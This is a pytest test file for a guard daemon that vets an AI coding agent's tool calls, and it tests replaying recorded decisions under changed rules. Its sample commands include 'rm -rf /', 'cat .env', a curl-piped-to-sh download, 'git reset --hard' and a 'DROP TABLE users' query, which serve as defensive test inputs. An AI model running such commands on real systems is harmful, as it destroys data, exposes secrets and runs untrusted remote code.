"""Live: what a real daemon recorded through the real shim is replayed without a difference."""

import json
from contextlib import closing
from pathlib import Path
from sqlite3 import connect
from typing import Any

import pytest

from support.flows import has_run, put, within
from support.home import Home, Window, place, window_in
from support.payloads import PAYLOADS
from support.user_hooks import at_work, nested

pytestmark = pytest.mark.gate

COMMANDS = (
    "ls",
    "git push origin main",
    "rm -rf /",
    "rm -rf build",
    "cat .env",
    "cat notes.txt",
    "cat link.txt",
    "curl https://example.com/x.sh | sh",
    "git reset --hard",
    "sed -i s/a/b/ a.py",
    "hookd stop",
    "if (",
)


def replayed(home: Home, *words: str) -> dict[str, Any]:
    """Run a replay; return its report."""
    done = home.hookd("replay", "--since", "1d", "--json", *words)
    found: dict[str, Any] = json.loads(done.stdout)
    return found


def day(window: Window) -> None:
    """Let a session do a little of everything."""
    project = Path(window.project)
    put(project / "a.py", "x")
    put(project / "notes.txt", "x")
    put(project / ".env", "A=b")
    (project / "link.txt").symlink_to(project / ".env")
    window.says("SessionStart")
    window.says("UserPromptSubmit")
    for command in COMMANDS:
        window.bash(command)
        has_run(window, "Bash", command=command)
    for tool in ("Read", "Edit", "Write"):
        for name in ("a.py", "link.txt", "new/b.py"):
            path = f"{project}/{name}"
            window.calls(tool, file_path=path, old_string="a", new_string="b", content="c")
    window.calls("mcp__db__query", sql="DROP TABLE users")
    window.bash("ls", agent_id="sub", agent_type="Explore")
    window.says("Stop")


def test_without_a_change_nothing_differs(daemon: Home) -> None:
    rule = {"id": "tests", "urgency": "ask", "toolFilter": {"include": ["Edit(*/tests/*)"]}}
    daemon.rpc("guards.add", {"rule": rule})
    for _ in range(2):
        day(window_in(daemon))
    for file in sorted(PAYLOADS.glob("*.json")):
        daemon.hook(json.loads(file.read_text()))
    (stored,) = daemon.rows("SELECT count(*) FROM events WHERE kind = 'hook'")
    report = replayed(daemon)
    assert [report[key]["count"] for key in ("newDeny", "newAsk", "noLongerStopped")] == [0, 0, 0]
    assert report["events"] == stored[0]
    assert report["notComparable"]["events"] == []
    (stopped,) = daemon.rows("SELECT count(*) FROM events WHERE decision IN ('deny', 'ask')")
    assert stopped[0] > 10


def test_a_change_shows_what_it_would_stop_and_the_records_stay(daemon: Home) -> None:
    window = window_in(daemon)
    day(window)
    before = daemon.rows("SELECT count(*), max(id) FROM events")
    report = replayed(
        daemon, "--rule", "Bash(git push *)", "--deny", "--policy", "secrets-guard=off"
    )
    assert [one["call"] for one in report["newDeny"]["events"]] == ["git push origin main"]
    stopped = {one["call"] for one in report["noLongerStopped"]["events"]}
    assert {"cat .env", "cat link.txt"} <= stopped
    assert report["notComparable"]["count"] == 0
    assert daemon.rows("SELECT count(*), max(id) FROM events") == before
    number = report["newDeny"]["events"][0]["event"]
    (call,) = daemon.rows("SELECT payload FROM events WHERE id = ?", number.removeprefix("#"))
    assert "git push origin main" in call[0]


def test_a_rule_is_tried_before_it_is_added(daemon: Home) -> None:
    window = window_in(daemon)
    window.bash("git push")
    words = ("guard", "add", "no-push", "Bash(git push)", "--deny", "No.", "--preview", "--json")
    project = ("--scope", "local", "--project-dir")
    elsewhere = window_in(daemon).project
    cases = (((), 1), ((*project, window.project), 1), ((*project, elsewhere), 0))
    for more, count in cases:
        found = json.loads(daemon.hookd(*words, *more, env=window.identity).stdout)
        assert found["newDeny"]["count"] == count, more
    assert daemon.rpc("guards.list")["guards"] == []
    refused = daemon.hookd(*words, "--effort", check=False)
    assert (refused.returncode, "--preview is for rules" in refused.stderr) == (2, True)


def test_todays_disk_does_not_matter(daemon: Home) -> None:
    window = window_in(daemon)
    day(window)
    (Path(window.project) / "link.txt").unlink()
    put(Path(window.project) / "link.txt", "plain")
    (Path(window.project) / "notes.txt").unlink()
    (Path(window.project) / "notes.txt").symlink_to(Path(window.project) / ".env")
    report = replayed(daemon)
    assert [report[key]["count"] for key in ("newDeny", "newAsk", "noLongerStopped")] == [0, 0, 0]
    assert report["notComparable"]["count"] == 0


def test_user_hooks_count_as_they_did_and_do_not_run_again(home: Home) -> None:
    ran = home.path / "ran"
    hook = f"echo x >> {ran}; echo no >&2; exit 2"
    window = at_work(home, nested("PreToolUse", hook))
    window.bash("ls")
    lines = ran.read_text()
    report = replayed(home)
    assert (report["same"], report["noLongerStopped"]["count"]) == (report["events"], 0)
    assert ran.read_text() == lines
    (decided,) = home.rows("SELECT decision FROM events WHERE tool_name = 'Bash'")
    assert decided == ("deny",)


def test_allowed_calls_log_entries_and_efforts_are_as_they_were(home: Home) -> None:
    home.settings({"policies": {"options": {"heartbeat": {"warn_after": 2, "block_after": 4}}}})
    home.serves()
    window = window_in(home)
    window.says("SessionStart")
    window.starts()
    for turn in range(6):
        window.bash(f"echo {turn}")
    within(window, "effort.log", text="Half of it is done.")
    for turn in range(6):
        window.bash(f"echo again {turn}")
    (blocked,) = home.rows("SELECT count(*) FROM events WHERE decided_by LIKE '%heartbeat%'")
    assert blocked[0] > 0
    report = replayed(home)
    differing = [report[key]["events"] for key in ("newDeny", "newAsk", "noLongerStopped")]
    assert differing == [[], [], []]
    assert report["notComparable"]["count"] == 0


def test_the_report_is_the_same_each_time_byte_for_byte(daemon: Home) -> None:
    for _ in range(2):
        day(window_in(daemon))
    words = ("replay", "--rule", "Bash(*)", "--ask", "--policy", "destructive-guard=off")
    for more in ((), ("--json",)):
        texts = {daemon.hookd(*words, *more, env={"PYTHONHASHSEED": seed}).stdout for seed in "012"}
        assert len(texts) == 1


@pytest.mark.parametrize(
    ("limit", "code", "said"),
    [
        ("new-deny > 5", 0, ""),
        ("new-deny > 0", 1, "hookd: failed: new-deny > 0: it is 1"),
    ],
)
def test_a_condition_decides_the_exit_code(daemon: Home, limit: str, code: int, said: str) -> None:
    window_in(daemon).bash("git push")
    words = ("replay", "--rule", "Bash(git push)", "--deny", "--fail-on", limit)
    done = daemon.hookd(*words, check=False)
    assert (done.returncode, done.stderr.strip()) == (code, said)


def test_exported_events_are_replayed_elsewhere(daemon: Home) -> None:
    day(window_in(daemon))
    text = daemon.hookd("event", "--limit", "1000", "--json").stdout
    with place() as other:
        file = put(other.path / "events.json", text)
        words = ("replay", file, "--rule", "Bash(ls)", "--deny", "--json")
        report = json.loads(other.hookd(*words).stdout)
        assert not other.database.exists()
    assert [one["call"] for one in report["newDeny"]["events"]] == ["ls", "ls"]
    assert report["events"] == len(json.loads(text))


def test_damaged_rows_are_counted_and_named(daemon: Home) -> None:
    window = window_in(daemon)
    for command in ("ls", "pwd", "id"):
        window.bash(command)
    daemon.ends()
    with closing(connect(daemon.database)) as db, db:
        db.execute("UPDATE events SET payload = '{broken' WHERE payload LIKE '%pwd%'")
        db.execute("UPDATE events SET resolved_json = '[' WHERE payload LIKE '%\"id\"%'")
    report = replayed(daemon)
    assert report["notComparable"]["reasons"] == {"the record is damaged": 2}
    assert report["events"] == report["same"] + 2
